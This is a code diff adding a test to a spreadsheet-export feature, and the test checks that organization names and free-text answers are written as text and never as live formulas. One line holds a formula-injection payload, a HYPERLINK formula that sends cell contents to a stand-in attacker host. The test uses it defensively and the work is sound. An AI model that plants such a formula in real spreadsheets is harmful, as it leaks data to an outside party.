@@ -11,6 +11,7 @@ from openpyxl import load_workbook
 from assessments import workflow
 from assessments.actors import Actor
 from assessments.answers import AnswerInput, save_answers
+from assessments.frameworks.schema import QuestionType
 from assessments.models import Answer, AuditAction, AuditEvent
 from assessments.workbooks import ANSWERS, COLUMN
 
@@ -176,6 +177,27 @@ def test_an_answer_that_looks_like_a_formula_is_exported_as_text(client, draft, 
     cell = rows["scope.product"][COLUMN["answer"]]
     assert cell.value == formula
     assert cell.data_type == "s"
+
+
+def test_no_cell_of_any_sheet_is_a_formula_whatever_people_typed(client, draft, preparer):
+    """Names and answers are other people's words: a spreadsheet opening the export must
+    show them, never run them (the About sheet once wrote the organization's name live)."""
+    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
+    draft.organization.legal_name = hostile
+    draft.organization.save()
+    free_text = [q for s in draft.framework_version.framework.sections for q in s.questions]
+    free_text = [q for q in free_text if q.type == QuestionType.TEXT]
+    save_answers(
+        draft, [AnswerInput(q.id, "+" + hostile[1:]) for q in free_text], actor=Actor(preparer)
+    )
+    client.force_login(preparer)
+
+    book = download(client, draft)
+
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert hostile in [cell.value for cell in book["About"]["B"]]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert len([c for c in cells if str(c.value).startswith(("=", "+"))]) > len(free_text)
 
 
 def test_a_file_that_is_not_a_workbook_gets_a_clear_message(client, draft, preparer):
